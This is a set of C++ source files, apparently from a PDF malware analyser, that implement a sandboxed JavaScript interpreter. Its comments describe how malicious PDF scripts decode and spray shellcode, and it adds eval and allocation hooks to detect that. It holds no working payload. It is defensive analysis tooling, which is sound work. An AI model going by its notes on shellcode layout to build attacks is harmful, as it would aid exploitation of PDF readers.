  std::size_t large_string_threshold = 256 * 1024;

  std::uint64_t allocated_bytes() const { return allocated_bytes_; }
  std::uint64_t steps() const { return steps_; }
  void set_step_limit(std::uint64_t limit) { step_limit_ = limit; }

  support::Rng& rng() { return rng_; }

 private:
  friend void install_builtins(Interpreter& interp);

  struct BreakSignal {};
  struct ContinueSignal {};
  struct ReturnSignal {
    Value value;
  };

  void step();
  void exec_block(const std::vector<StmtPtr>& body,
                  const std::shared_ptr<Environment>& env);
  void exec(const Stmt& stmt, const std::shared_ptr<Environment>& env);
  Value eval(const Expr& expr, const std::shared_ptr<Environment>& env);
  Value eval_call(const Expr& expr, const std::shared_ptr<Environment>& env);
  Value eval_member(const Value& object, const std::string& key);
  void assign_member(const Value& object, const std::string& key, Value v);
  Value eval_binary(const std::string& op, const Value& l, const Value& r);
  Value apply_compound(const std::string& op, const Value& old, const Value& rhs);

  /// Property lookup for primitive strings (length + methods) and arrays.
  Value string_member(const std::string& s, const std::string& key);
  Value array_member(const ObjectPtr& arr, const std::string& key);

  /// Creates a scope and registers it for the teardown sweep. All
  /// environment creation funnels through here.
  std::shared_ptr<Environment> make_env(std::shared_ptr<Environment> parent,
                                        bool function_scope = false);

  std::shared_ptr<Environment> global_env_;
  // Every environment ever created, weakly held. Most scopes die on their
  // own (no cycle) and are compacted away; the survivors are exactly the
  // closure-captured ones the destructor must sweep.
  std::vector<std::weak_ptr<Environment>> env_registry_;
  std::size_t env_compact_threshold_ = 64;
  // Scope/this stack so eval() and builtins see the caller's context.
  std::vector<std::shared_ptr<Environment>> env_stack_;
  std::vector<Value> this_stack_;

  std::uint64_t steps_ = 0;
  std::uint64_t step_limit_ = 50'000'000;
  std::uint64_t allocated_bytes_ = 0;
  support::Rng rng_{0xD0C5EEDull};
};

/// Installs the standard builtins (String, Math, parseInt, unescape, ...).
/// Called by the Interpreter constructor; exposed for tests.
void install_builtins(Interpreter& interp);

}  // namespace pdfshield::js
