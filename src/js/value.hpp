// Javascript value model for the embedded ECMAScript-subset engine.
// Strings are immutable byte strings (Latin-1 semantics — enough for the
// exploit corpus, which manipulates binary shellcode via charCodeAt /
// fromCharCode). Objects/arrays/functions share one heap cell type.
#pragma once

#include <functional>
#include <map>
#include <memory>
#include <string>
#include <variant>
#include <vector>

#include "support/error.hpp"

namespace pdfshield::js {

class Interpreter;
class JsObject;
struct FunctionNode;
class Environment;

using ObjectPtr = std::shared_ptr<JsObject>;

struct Undefined {
  friend bool operator==(const Undefined&, const Undefined&) { return true; }
};
struct Null {
  friend bool operator==(const Null&, const Null&) { return true; }
};

/// A Javascript value.
class Value {
 public:
  using Repr = std::variant<Undefined, Null, bool, double, std::string, ObjectPtr>;

  Value() : v_(Undefined{}) {}
  Value(Undefined) : v_(Undefined{}) {}
  Value(Null) : v_(Null{}) {}
  Value(bool b) : v_(b) {}
  Value(double d) : v_(d) {}
  Value(int i) : v_(static_cast<double>(i)) {}
  Value(std::size_t n) : v_(static_cast<double>(n)) {}
  Value(std::string s) : v_(std::move(s)) {}
  Value(const char* s) : v_(std::string(s)) {}
  Value(ObjectPtr o) : v_(std::move(o)) {}

  bool is_undefined() const { return std::holds_alternative<Undefined>(v_); }
  bool is_null() const { return std::holds_alternative<Null>(v_); }
  bool is_nullish() const { return is_undefined() || is_null(); }
  bool is_bool() const { return std::holds_alternative<bool>(v_); }
  bool is_number() const { return std::holds_alternative<double>(v_); }
  bool is_string() const { return std::holds_alternative<std::string>(v_); }
  bool is_object() const { return std::holds_alternative<ObjectPtr>(v_); }

  bool as_bool() const { return std::get<bool>(v_); }
  double as_number() const { return std::get<double>(v_); }
  const std::string& as_string() const { return std::get<std::string>(v_); }
  const ObjectPtr& as_object() const { return std::get<ObjectPtr>(v_); }

  const Repr& repr() const { return v_; }

 private:
  Repr v_;
};

/// Native function: (interpreter, this, args) -> value.
using NativeFn =
    std::function<Value(Interpreter&, const Value&, const std::vector<Value>&)>;

/// User-defined function: parameters + body AST + captured scope.
struct UserFunction {
  std::shared_ptr<const FunctionNode> node;
  std::shared_ptr<Environment> closure;
};

/// Heap cell: plain object, array, or function. One class keeps the
/// interpreter simple; flags select behaviour.
class JsObject : public std::enable_shared_from_this<JsObject> {
 public:
  enum class Kind { kPlain, kArray, kFunction };

  explicit JsObject(Kind kind = Kind::kPlain) : kind_(kind) {}

  Kind kind() const { return kind_; }
  bool is_array() const { return kind_ == Kind::kArray; }
  bool is_function() const { return kind_ == Kind::kFunction; }

  /// Named properties.
  bool has(const std::string& key) const { return props_.count(key) > 0; }
  Value get(const std::string& key) const;
  void set(const std::string& key, Value v) { props_[key] = std::move(v); }
  bool erase(const std::string& key) { return props_.erase(key) > 0; }
  const std::map<std::string, Value>& props() const { return props_; }

  /// Array elements (Kind::kArray).
  std::vector<Value>& elements() { return elements_; }
  const std::vector<Value>& elements() const { return elements_; }

  /// Function payload (Kind::kFunction): exactly one of these is set.
  NativeFn native;
  std::shared_ptr<UserFunction> user;

  /// Class tag used by host objects ("Doc", "App", "SOAP", ...) so the
  /// jsapi layer can identify its own objects.
  std::string class_name;

 private:
  Kind kind_;
  std::map<std::string, Value> props_;
  std::vector<Value> elements_;
};

/// Script-level exception (thrown by `throw`, catchable by `try/catch`).
class JsException {
 public:
  explicit JsException(Value v) : value_(std::move(v)) {}
  const Value& value() const { return value_; }

 private:
  Value value_;
};

/// Makes a native function object.
ObjectPtr make_native_function(NativeFn fn);

/// Makes an array object from elements.
ObjectPtr make_array(std::vector<Value> elements = {});

/// Makes a plain object.
ObjectPtr make_object();

}  // namespace pdfshield::js
