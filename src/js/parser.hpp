// Recursive-descent / precedence-climbing parser for the ECMAScript
// subset. Produces the AST in js/ast.hpp.
#pragma once

#include <memory>
#include <string_view>

#include "js/ast.hpp"

namespace pdfshield::js {

/// Parses a full script. Throws ParseError with a line number on syntax
/// errors. Automatic semicolon insertion is supported in the common cases
/// (end of line before `}` / EOF and after return/break/continue).
std::shared_ptr<Program> parse_js(std::string_view source);

}  // namespace pdfshield::js
