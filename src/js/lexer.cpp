#include "js/lexer.hpp"

#include <array>
#include <cctype>
#include <cstdlib>

namespace pdfshield::js {

using support::ParseError;

bool is_js_keyword(std::string_view word) {
  static const std::array<std::string_view, 22> kKeywords = {
      "var",    "let",      "const",  "function", "return", "if",
      "else",   "while",    "do",     "for",      "in",     "break",
      "continue", "new",    "typeof", "void",     "delete", "try",
      "catch",  "finally",  "throw",  "switch"};
  for (auto k : kKeywords) {
    if (k == word) return true;
  }
  // Literal keywords are classified as keywords too.
  return word == "true" || word == "false" || word == "null" ||
         word == "undefined" || word == "this" || word == "case" ||
         word == "default" || word == "instanceof";
}

namespace {

bool is_ident_start(char c) {
  return std::isalpha(static_cast<unsigned char>(c)) || c == '_' || c == '$';
}

bool is_ident_part(char c) {
  return is_ident_start(c) || std::isdigit(static_cast<unsigned char>(c));
}

int hex_value(char c) {
  if (c >= '0' && c <= '9') return c - '0';
  if (c >= 'a' && c <= 'f') return c - 'a' + 10;
  if (c >= 'A' && c <= 'F') return c - 'A' + 10;
  return -1;
}

// Multi-character punctuators, longest first so maximal munch works.
const std::array<std::string_view, 29> kPuncts = {
    ">>>=", "===", "!==", ">>>", "<<=", ">>=", "==", "!=", "<=", ">=",
    "&&",  "||",  "++",  "--",  "+=",  "-=",  "*=", "/=", "%=", "&=",
    "|=",  "^=",  "<<",  ">>",  "=>",  // => tolerated, parsed as error later
    "**",  "?.",  "::",  "..",
};

}  // namespace

std::vector<JsToken> tokenize_js(std::string_view src) {
  std::vector<JsToken> out;
  std::size_t i = 0;
  std::size_t line = 1;

  auto push = [&](JsTokenKind kind, std::string text, std::size_t offset,
                  double num = 0) {
    JsToken t;
    t.kind = kind;
    t.text = std::move(text);
    t.number = num;
    t.offset = offset;
    t.line = line;
    out.push_back(std::move(t));
  };

  while (i < src.size()) {
    const char c = src[i];
    if (c == '\n') {
      ++line;
      ++i;
      continue;
    }
    if (std::isspace(static_cast<unsigned char>(c))) {
      ++i;
      continue;
    }
    // Comments.
    if (c == '/' && i + 1 < src.size()) {
      if (src[i + 1] == '/') {
        while (i < src.size() && src[i] != '\n') ++i;
        continue;
      }
      if (src[i + 1] == '*') {
        i += 2;
        while (i + 1 < src.size() && !(src[i] == '*' && src[i + 1] == '/')) {
          if (src[i] == '\n') ++line;
          ++i;
        }
        if (i + 1 >= src.size()) {
          throw ParseError("unterminated block comment at offset " +
                           std::to_string(i));
        }
        i += 2;
        continue;
      }
    }
    // Identifiers / keywords.
    if (is_ident_start(c)) {
      const std::size_t start = i;
      while (i < src.size() && is_ident_part(src[i])) ++i;
      std::string word(src.substr(start, i - start));
      const JsTokenKind kind =
          is_js_keyword(word) ? JsTokenKind::kKeyword : JsTokenKind::kIdentifier;
      push(kind, std::move(word), start);
      continue;
    }
    // Numbers.
    if (std::isdigit(static_cast<unsigned char>(c)) ||
        (c == '.' && i + 1 < src.size() &&
         std::isdigit(static_cast<unsigned char>(src[i + 1])))) {
      const std::size_t start = i;
      double value = 0;
      if (c == '0' && i + 1 < src.size() && (src[i + 1] == 'x' || src[i + 1] == 'X')) {
        i += 2;
        std::uint64_t v = 0;
        bool any = false;
        while (i < src.size() && hex_value(src[i]) >= 0) {
          v = v * 16 + static_cast<std::uint64_t>(hex_value(src[i]));
          ++i;
          any = true;
        }
        if (!any) {
          throw ParseError("malformed hex literal at offset " +
                           std::to_string(start));
        }
        value = static_cast<double>(v);
      } else {
        while (i < src.size() && std::isdigit(static_cast<unsigned char>(src[i]))) ++i;
        if (i < src.size() && src[i] == '.') {
          ++i;
          while (i < src.size() && std::isdigit(static_cast<unsigned char>(src[i]))) ++i;
        }
        if (i < src.size() && (src[i] == 'e' || src[i] == 'E')) {
          ++i;
          if (i < src.size() && (src[i] == '+' || src[i] == '-')) ++i;
          while (i < src.size() && std::isdigit(static_cast<unsigned char>(src[i]))) ++i;
        }
        value = std::strtod(std::string(src.substr(start, i - start)).c_str(), nullptr);
      }
      push(JsTokenKind::kNumber, std::string(src.substr(start, i - start)), start,
           value);
      continue;
    }
    // Strings.
    if (c == '\'' || c == '"') {
      const char quote = c;
      const std::size_t start = i;
      ++i;
      std::string value;
      while (true) {
        if (i >= src.size()) {
          throw ParseError("unterminated string literal at offset " +
                           std::to_string(start));
        }
        const char ch = src[i++];
        if (ch == quote) break;
        if (ch == '\n') {
          throw ParseError("newline in string literal at offset " +
                           std::to_string(i - 1));
        }
        if (ch != '\\') {
          value.push_back(ch);
          continue;
        }
        if (i >= src.size()) {
          throw ParseError("string ends in backslash at offset " +
                           std::to_string(i - 1));
        }
        const char e = src[i++];
        switch (e) {
          case 'n': value.push_back('\n'); break;
          case 'r': value.push_back('\r'); break;
          case 't': value.push_back('\t'); break;
          case 'b': value.push_back('\b'); break;
          case 'f': value.push_back('\f'); break;
          case 'v': value.push_back('\v'); break;
          case '0': value.push_back('\0'); break;
          case 'x': {
            if (i + 1 >= src.size() || hex_value(src[i]) < 0 || hex_value(src[i + 1]) < 0) {
              throw ParseError("malformed \\x escape at offset " +
                               std::to_string(i - 2));
            }
            value.push_back(static_cast<char>((hex_value(src[i]) << 4) |
                                              hex_value(src[i + 1])));
            i += 2;
            break;
          }
          case 'u': {
            if (i + 3 >= src.size()) {
              throw ParseError("malformed \\u escape at offset " +
                               std::to_string(i - 2));
            }
            int v = 0;
            for (int k = 0; k < 4; ++k) {
              const int h = hex_value(src[i + static_cast<std::size_t>(k)]);
              if (h < 0) {
                throw ParseError("malformed \\u escape at offset " +
                                 std::to_string(i - 2));
              }
              v = v * 16 + h;
            }
            i += 4;
            // Latin-1 engine: code points below 256 are one byte (so
            // 'A' === 'A' holds); higher ones are stored as the two
            // bytes little-endian, matching how unescape('%uXXXX') lays
            // out shellcode in memory.
            if (v < 256) {
              value.push_back(static_cast<char>(v));
            } else {
              value.push_back(static_cast<char>(v & 0xff));
              value.push_back(static_cast<char>((v >> 8) & 0xff));
            }
            break;
          }
          case '\n':
            ++line;
            break;  // line continuation
          default:
            value.push_back(e);
        }
      }
      JsToken t;
      t.kind = JsTokenKind::kString;
      t.text = std::move(value);
      t.offset = start;
      t.line = line;
      out.push_back(std::move(t));
      continue;
    }
    // Punctuators.
    {
      const std::string_view rest = src.substr(i);
      std::string_view matched;
      for (auto p : kPuncts) {
        if (rest.size() >= p.size() && rest.substr(0, p.size()) == p) {
          matched = p;
          break;
        }
      }
      if (!matched.empty()) {
        push(JsTokenKind::kPunct, std::string(matched), i);
        i += matched.size();
        continue;
      }
      static const std::string_view kSingle = "+-*/%=<>!&|^~?:;,.(){}[]";
      if (kSingle.find(c) != std::string_view::npos) {
        push(JsTokenKind::kPunct, std::string(1, c), i);
        ++i;
        continue;
      }
    }
    throw ParseError("unexpected character '" + std::string(1, c) +
                     "' at line " + std::to_string(line) + ", offset " +
                     std::to_string(i));
  }

  JsToken eof;
  eof.kind = JsTokenKind::kEof;
  eof.offset = src.size();
  eof.line = line;
  out.push_back(std::move(eof));
  return out;
}

}  // namespace pdfshield::js
