// Standard-library surface of the embedded engine: string and array
// methods, Math, global conversion functions, eval and unescape — the
// toolkit real-world malicious PDF Javascript is written against.
#include <algorithm>
#include <cmath>
#include <cstdlib>

#include "js/interp.hpp"
#include "js/stringops.hpp"
#include "support/error.hpp"

namespace pdfshield::js {

namespace {

Value arg_or_undef(const std::vector<Value>& args, std::size_t i) {
  return i < args.size() ? args[i] : Value();
}

std::int64_t clamp_index(double raw, std::size_t len) {
  if (std::isnan(raw)) return 0;
  std::int64_t i = static_cast<std::int64_t>(raw);
  if (i < 0) i += static_cast<std::int64_t>(len);
  if (i < 0) i = 0;
  if (i > static_cast<std::int64_t>(len)) i = static_cast<std::int64_t>(len);
  return i;
}

}  // namespace

// ---------------------------------------------------------------------------
// String members
// ---------------------------------------------------------------------------

Value Interpreter::string_member(const std::string& s, const std::string& key) {
  if (key == "length") return Value(static_cast<double>(s.size()));

  // Numeric index -> one-character string.
  {
    char* end = nullptr;
    const long idx = std::strtol(key.c_str(), &end, 10);
    if (end && *end == '\0' && !key.empty() &&
        (std::isdigit(static_cast<unsigned char>(key[0])))) {
      if (idx >= 0 && static_cast<std::size_t>(idx) < s.size()) {
        return Value(std::string(1, s[static_cast<std::size_t>(idx)]));
      }
      return Value();
    }
  }

  // Methods close over a copy of the string (strings are immutable).
  if (key == "charAt") {
    return Value(make_native_function(
        [s](Interpreter& in, const Value&, const std::vector<Value>& args) {
          const auto i = static_cast<std::int64_t>(in.to_number(arg_or_undef(args, 0)));
          if (i < 0 || static_cast<std::size_t>(i) >= s.size()) return Value("");
          return Value(std::string(1, s[static_cast<std::size_t>(i)]));
        }));
  }
  if (key == "charCodeAt") {
    return Value(make_native_function(
        [s](Interpreter& in, const Value&, const std::vector<Value>& args) {
          double d = in.to_number(arg_or_undef(args, 0));
          if (std::isnan(d)) d = 0;
          const auto i = static_cast<std::int64_t>(d);
          if (i < 0 || static_cast<std::size_t>(i) >= s.size()) {
            return Value(std::nan(""));
          }
          return Value(static_cast<double>(
              static_cast<unsigned char>(s[static_cast<std::size_t>(i)])));
        }));
  }
  if (key == "indexOf") {
    return Value(make_native_function(
        [s](Interpreter& in, const Value&, const std::vector<Value>& args) {
          const std::string needle = in.to_js_string(arg_or_undef(args, 0));
          std::size_t from = 0;
          if (args.size() > 1) {
            from = static_cast<std::size_t>(
                std::max(0.0, in.to_number(args[1])));
          }
          const std::size_t pos = s.find(needle, from);
          return Value(pos == std::string::npos ? -1.0 : static_cast<double>(pos));
        }));
  }
  if (key == "lastIndexOf") {
    return Value(make_native_function(
        [s](Interpreter& in, const Value&, const std::vector<Value>& args) {
          const std::string needle = in.to_js_string(arg_or_undef(args, 0));
          const std::size_t pos = s.rfind(needle);
          return Value(pos == std::string::npos ? -1.0 : static_cast<double>(pos));
        }));
  }
  if (key == "substring") {
    return Value(make_native_function(
        [s](Interpreter& in, const Value&, const std::vector<Value>& args) {
          std::int64_t a = clamp_index(in.to_number(arg_or_undef(args, 0)), s.size());
          std::int64_t b = args.size() > 1
                               ? clamp_index(in.to_number(args[1]), s.size())
                               : static_cast<std::int64_t>(s.size());
          // substring: negative args clamp to 0 (not relative) and swap.
          if (in.to_number(arg_or_undef(args, 0)) < 0) a = 0;
          if (args.size() > 1 && in.to_number(args[1]) < 0) b = 0;
          if (a > b) std::swap(a, b);
          return in.make_string(s.substr(static_cast<std::size_t>(a),
                                         static_cast<std::size_t>(b - a)));
        }));
  }
  if (key == "substr") {
    return Value(make_native_function(
        [s](Interpreter& in, const Value&, const std::vector<Value>& args) {
          const std::int64_t a = clamp_index(in.to_number(arg_or_undef(args, 0)), s.size());
          std::size_t len = s.size() - static_cast<std::size_t>(a);
          if (args.size() > 1) {
            const double want = in.to_number(args[1]);
            if (want < 0) {
              len = 0;
            } else {
              len = std::min<std::size_t>(len, static_cast<std::size_t>(want));
            }
          }
          return in.make_string(s.substr(static_cast<std::size_t>(a), len));
        }));
  }
  if (key == "slice") {
    return Value(make_native_function(
        [s](Interpreter& in, const Value&, const std::vector<Value>& args) {
          const std::int64_t a = clamp_index(in.to_number(arg_or_undef(args, 0)), s.size());
          const std::int64_t b = args.size() > 1
                                     ? clamp_index(in.to_number(args[1]), s.size())
                                     : static_cast<std::int64_t>(s.size());
          if (a >= b) return in.make_string("");
          return in.make_string(s.substr(static_cast<std::size_t>(a),
                                         static_cast<std::size_t>(b - a)));
        }));
  }
  if (key == "split") {
    return Value(make_native_function(
        [s](Interpreter& in, const Value&, const std::vector<Value>& args) {
          std::vector<Value> parts;
          if (args.empty() || args[0].is_undefined()) {
            parts.emplace_back(s);
            return Value(make_array(std::move(parts)));
          }
          const std::string sep = in.to_js_string(args[0]);
          if (sep.empty()) {
            for (char c : s) parts.emplace_back(std::string(1, c));
            return Value(make_array(std::move(parts)));
          }
          std::size_t start = 0;
          while (true) {
            const std::size_t pos = s.find(sep, start);
            if (pos == std::string::npos) {
              parts.emplace_back(s.substr(start));
              break;
            }
            parts.emplace_back(s.substr(start, pos - start));
            start = pos + sep.size();
          }
          return Value(make_array(std::move(parts)));
        }));
  }
  if (key == "replace") {
    // String-pattern semantics: replaces the FIRST occurrence only.
    return Value(make_native_function(
        [s](Interpreter& in, const Value&, const std::vector<Value>& args) {
          const std::string from = in.to_js_string(arg_or_undef(args, 0));
          const std::string to = in.to_js_string(arg_or_undef(args, 1));
          const std::size_t pos = s.find(from);
          if (pos == std::string::npos || from.empty()) return in.make_string(std::string(s));
          std::string out = s;
          out.replace(pos, from.size(), to);
          return in.make_string(std::move(out));
        }));
  }
  if (key == "toUpperCase" || key == "toLowerCase") {
    const bool upper = key == "toUpperCase";
    return Value(make_native_function(
        [s, upper](Interpreter& in, const Value&, const std::vector<Value>&) {
          std::string out = s;
          for (char& c : out) {
            c = upper ? static_cast<char>(std::toupper(static_cast<unsigned char>(c)))
                      : static_cast<char>(std::tolower(static_cast<unsigned char>(c)));
          }
          return in.make_string(std::move(out));
        }));
  }
  if (key == "concat") {
    return Value(make_native_function(
        [s](Interpreter& in, const Value&, const std::vector<Value>& args) {
          std::string out = s;
          for (const Value& a : args) out += in.to_js_string(a);
          return in.make_string(std::move(out));
        }));
  }
  if (key == "toString" || key == "valueOf") {
    return Value(make_native_function(
        [s](Interpreter&, const Value&, const std::vector<Value>&) {
          return Value(std::string(s));
        }));
  }
  return Value();
}

// ---------------------------------------------------------------------------
// Array members
// ---------------------------------------------------------------------------

Value Interpreter::array_member(const ObjectPtr& arr, const std::string& key) {
  if (key == "length") return Value(static_cast<double>(arr->elements().size()));

  {
    char* end = nullptr;
    const long idx = std::strtol(key.c_str(), &end, 10);
    if (end && *end == '\0' && !key.empty() &&
        std::isdigit(static_cast<unsigned char>(key[0]))) {
      if (idx >= 0 && static_cast<std::size_t>(idx) < arr->elements().size()) {
        return arr->elements()[static_cast<std::size_t>(idx)];
      }
      return Value();
    }
  }

  if (key == "push") {
    return Value(make_native_function(
        [arr](Interpreter& in, const Value&, const std::vector<Value>& args) {
          for (const Value& a : args) arr->elements().push_back(a);
          if (in.on_alloc) in.on_alloc(args.size() * sizeof(Value));
          return Value(static_cast<double>(arr->elements().size()));
        }));
  }
  if (key == "pop") {
    return Value(make_native_function(
        [arr](Interpreter&, const Value&, const std::vector<Value>&) {
          if (arr->elements().empty()) return Value();
          Value v = arr->elements().back();
          arr->elements().pop_back();
          return v;
        }));
  }
  if (key == "shift") {
    return Value(make_native_function(
        [arr](Interpreter&, const Value&, const std::vector<Value>&) {
          if (arr->elements().empty()) return Value();
          Value v = arr->elements().front();
          arr->elements().erase(arr->elements().begin());
          return v;
        }));
  }
  if (key == "join") {
    return Value(make_native_function(
        [arr](Interpreter& in, const Value&, const std::vector<Value>& args) {
          const std::string sep =
              args.empty() || args[0].is_undefined() ? "," : in.to_js_string(args[0]);
          std::string out;
          for (std::size_t i = 0; i < arr->elements().size(); ++i) {
            if (i) out += sep;
            const Value& e = arr->elements()[i];
            if (!e.is_nullish()) out += in.to_js_string(e);
          }
          return in.make_string(std::move(out));
        }));
  }
  if (key == "concat") {
    return Value(make_native_function(
        [arr](Interpreter&, const Value&, const std::vector<Value>& args) {
          std::vector<Value> out = arr->elements();
          for (const Value& a : args) {
            if (a.is_object() && a.as_object()->is_array()) {
              const auto& other = a.as_object()->elements();
              out.insert(out.end(), other.begin(), other.end());
            } else {
              out.push_back(a);
            }
          }
          return Value(make_array(std::move(out)));
        }));
  }
  if (key == "slice") {
    return Value(make_native_function(
        [arr](Interpreter& in, const Value&, const std::vector<Value>& args) {
          const std::size_t n = arr->elements().size();
          const std::int64_t a = clamp_index(in.to_number(arg_or_undef(args, 0)), n);
          const std::int64_t b = args.size() > 1
                                     ? clamp_index(in.to_number(args[1]), n)
                                     : static_cast<std::int64_t>(n);
          std::vector<Value> out;
          for (std::int64_t i = a; i < b; ++i) {
            out.push_back(arr->elements()[static_cast<std::size_t>(i)]);
          }
          return Value(make_array(std::move(out)));
        }));
  }
  if (key == "indexOf") {
    return Value(make_native_function(
        [arr](Interpreter&, const Value&, const std::vector<Value>& args) {
          const Value target = arg_or_undef(args, 0);
          for (std::size_t i = 0; i < arr->elements().size(); ++i) {
            if (Interpreter::strict_equals(arr->elements()[i], target)) {
              return Value(static_cast<double>(i));
            }
          }
          return Value(-1.0);
        }));
  }
  if (key == "reverse") {
    return Value(make_native_function(
        [arr](Interpreter&, const Value&, const std::vector<Value>&) {
          std::reverse(arr->elements().begin(), arr->elements().end());
          return Value(ObjectPtr(arr));
        }));
  }
  if (key == "sort") {
    return Value(make_native_function(
        [arr](Interpreter& in, const Value&, const std::vector<Value>& args) {
          auto& elems = arr->elements();
          if (!args.empty() && args[0].is_object() &&
              args[0].as_object()->is_function()) {
            const Value cmp = args[0];
            std::stable_sort(elems.begin(), elems.end(),
                             [&](const Value& a, const Value& b) {
                               return in.call_function(cmp, Value(), {a, b})
                                          .is_number() &&
                                      in.call_function(cmp, Value(), {a, b})
                                              .as_number() < 0;
                             });
          } else {
            std::stable_sort(elems.begin(), elems.end(),
                             [&](const Value& a, const Value& b) {
                               return in.to_js_string(a) < in.to_js_string(b);
                             });
          }
          return Value(ObjectPtr(arr));
        }));
  }
  if (key == "toString") {
    return Value(make_native_function(
        [arr](Interpreter& in, const Value&, const std::vector<Value>&) {
          return in.make_string(in.to_js_string(Value(ObjectPtr(arr))));
        }));
  }
  return arr->get(key);
}

// ---------------------------------------------------------------------------
// Globals
// ---------------------------------------------------------------------------

void install_builtins(Interpreter& interp) {
  auto def_fn = [&](const std::string& name, NativeFn fn) {
    interp.set_global(name, Value(make_native_function(std::move(fn))));
  };

  interp.set_global("NaN", Value(std::nan("")));
  interp.set_global("Infinity", Value(HUGE_VAL));

  def_fn("eval", [](Interpreter& in, const Value&, const std::vector<Value>& args) {
    const Value src = arg_or_undef(args, 0);
    if (!src.is_string()) return src;
    if (in.on_eval) in.on_eval(src.as_string());
    return in.eval_in_current_scope(src.as_string());
  });

  def_fn("unescape", [](Interpreter& in, const Value&, const std::vector<Value>& args) {
    return in.make_string(unescape_string(in.to_js_string(arg_or_undef(args, 0))));
  });
  def_fn("escape", [](Interpreter& in, const Value&, const std::vector<Value>& args) {
    return in.make_string(escape_string(in.to_js_string(arg_or_undef(args, 0))));
  });
  def_fn("parseInt", [](Interpreter& in, const Value&, const std::vector<Value>& args) {
    const std::string s = in.to_js_string(arg_or_undef(args, 0));
    int base = 10;
    if (args.size() > 1 && args[1].is_number()) {
      base = static_cast<int>(args[1].as_number());
    } else if (s.size() > 2 && s[0] == '0' && (s[1] == 'x' || s[1] == 'X')) {
      base = 16;
    }
    char* end = nullptr;
    const long long v = std::strtoll(s.c_str(), &end, base);
    if (end == s.c_str()) return Value(std::nan(""));
    return Value(static_cast<double>(v));
  });
  def_fn("parseFloat", [](Interpreter& in, const Value&, const std::vector<Value>& args) {
    const std::string s = in.to_js_string(arg_or_undef(args, 0));
    char* end = nullptr;
    const double v = std::strtod(s.c_str(), &end);
    if (end == s.c_str()) return Value(std::nan(""));
    return Value(v);
  });
  def_fn("isNaN", [](Interpreter& in, const Value&, const std::vector<Value>& args) {
    return Value(std::isnan(in.to_number(arg_or_undef(args, 0))));
  });

  // String: callable converter with fromCharCode.
  {
    auto string_obj = make_native_function(
        [](Interpreter& in, const Value&, const std::vector<Value>& args) {
          return in.make_string(args.empty() ? "" : in.to_js_string(args[0]));
        });
    string_obj->set("fromCharCode",
                    Value(make_native_function(
                        [](Interpreter& in, const Value&, const std::vector<Value>& args) {
                          std::string out;
                          out.reserve(args.size());
                          for (const Value& a : args) {
                            append_char_code(out, static_cast<int>(in.to_number(a)));
                          }
                          return in.make_string(std::move(out));
                        })));
    interp.set_global("String", Value(ObjectPtr(string_obj)));
  }

  def_fn("Number", [](Interpreter& in, const Value&, const std::vector<Value>& args) {
    return Value(args.empty() ? 0.0 : in.to_number(args[0]));
  });
  def_fn("Boolean", [](Interpreter& in, const Value&, const std::vector<Value>& args) {
    (void)in;
    return Value(!args.empty() && Interpreter::to_boolean(args[0]));
  });
  def_fn("Array", [](Interpreter&, const Value&, const std::vector<Value>& args) {
    if (args.size() == 1 && args[0].is_number()) {
      return Value(make_array(std::vector<Value>(
          static_cast<std::size_t>(args[0].as_number()))));
    }
    return Value(make_array(args));
  });
  def_fn("Object", [](Interpreter&, const Value&, const std::vector<Value>&) {
    return Value(make_object());
  });
  def_fn("Error", [](Interpreter& in, const Value&, const std::vector<Value>& args) {
    auto err = make_object();
    err->class_name = "Error";
    err->set("message", Value(args.empty() ? "" : in.to_js_string(args[0])));
    return Value(err);
  });

  // Math.
  {
    auto math = make_object();
    math->class_name = "Math";
    auto m1 = [&](const std::string& name, double (*fn)(double)) {
      math->set(name, Value(make_native_function(
                          [fn](Interpreter& in, const Value&, const std::vector<Value>& args) {
                            return Value(fn(in.to_number(arg_or_undef(args, 0))));
                          })));
    };
    m1("floor", std::floor);
    m1("ceil", std::ceil);
    m1("sqrt", std::sqrt);
    m1("abs", std::fabs);
    math->set("round", Value(make_native_function(
                           [](Interpreter& in, const Value&, const std::vector<Value>& args) {
                             return Value(std::floor(in.to_number(arg_or_undef(args, 0)) + 0.5));
                           })));
    math->set("pow", Value(make_native_function(
                         [](Interpreter& in, const Value&, const std::vector<Value>& args) {
                           return Value(std::pow(in.to_number(arg_or_undef(args, 0)),
                                                 in.to_number(arg_or_undef(args, 1))));
                         })));
    math->set("min", Value(make_native_function(
                         [](Interpreter& in, const Value&, const std::vector<Value>& args) {
                           double best = HUGE_VAL;
                           for (const Value& a : args) best = std::min(best, in.to_number(a));
                           return Value(best);
                         })));
    math->set("max", Value(make_native_function(
                         [](Interpreter& in, const Value&, const std::vector<Value>& args) {
                           double best = -HUGE_VAL;
                           for (const Value& a : args) best = std::max(best, in.to_number(a));
                           return Value(best);
                         })));
    math->set("random", Value(make_native_function(
                            [](Interpreter& in, const Value&, const std::vector<Value>&) {
                              // Deterministic: drawn from the engine's seeded RNG.
                              return Value(in.rng().uniform01());
                            })));
    math->set("PI", Value(3.14159265358979323846));
    interp.set_global("Math", Value(math));
  }
}

}  // namespace pdfshield::js
