// String-producing semantics shared between the runtime interpreter and
// the static analyzer (src/jsstatic). Both sides MUST fold through these
// helpers: the differential eval-resolution test asserts byte equality
// between statically folded strings and the values the interpreter
// actually produces, so any divergence here is a test failure, not a
// quiet heuristic mismatch.
#pragma once

#include <string>

namespace pdfshield::js {

/// `unescape(s)`: %XX and %uXXXX decoding. %uXXXX below 256 decodes to a
/// single byte; higher code points are stored as two bytes little-endian,
/// matching how sprayed shellcode lands in process memory.
std::string unescape_string(const std::string& s);

/// `escape(s)`: alphanumerics and @*_+-./ pass through, everything else
/// becomes %XX with uppercase hex digits.
std::string escape_string(const std::string& s);

/// Appends one `String.fromCharCode(code)` unit: below 256 one byte,
/// otherwise two bytes little-endian (Latin-1-ish engine layout).
void append_char_code(std::string& out, int code);

/// ToString for a JS number: NaN/Infinity spellings, "0" for both zeros,
/// integer rendering below 1e15, %.12g otherwise.
std::string number_to_js_string(double d);

}  // namespace pdfshield::js
