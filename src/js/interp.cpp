#include "js/interp.hpp"

#include <algorithm>
#include <cmath>
#include <cstdio>
#include <cstdlib>

#include "js/parser.hpp"
#include "js/stringops.hpp"
#include "support/error.hpp"

namespace pdfshield::js {

using support::JsError;

// ---------------------------------------------------------------------------
// Value helpers (free)
// ---------------------------------------------------------------------------

Value JsObject::get(const std::string& key) const {
  auto it = props_.find(key);
  return it == props_.end() ? Value() : it->second;
}

ObjectPtr make_native_function(NativeFn fn) {
  auto obj = std::make_shared<JsObject>(JsObject::Kind::kFunction);
  obj->native = std::move(fn);
  return obj;
}

ObjectPtr make_array(std::vector<Value> elements) {
